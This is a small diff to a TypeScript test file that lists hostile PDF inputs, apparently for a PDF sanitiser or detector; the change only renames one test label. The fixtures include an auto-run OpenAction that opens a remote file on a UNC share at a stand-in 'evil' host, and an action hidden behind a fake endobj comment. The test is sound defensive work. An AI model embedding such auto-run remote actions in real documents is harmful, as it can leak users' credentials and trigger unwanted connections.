@@ -77,7 +77,7 @@ const hostile: [string, Parameters<typeof rawPdf>[0]][] = [
   ],
   ['a program after the word for an end in a comment', { objects: [stored(`<< %endobj\n /B ${action} >>`)] }],
   [
-    'an opening in the file of a stranger',
+    'an action in a foreign file',
     { catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>' },
   ],
   ['an opening at an address', { catalogue: '/OpenAction << /S /URI /URI (https://example.org/) >>' }],
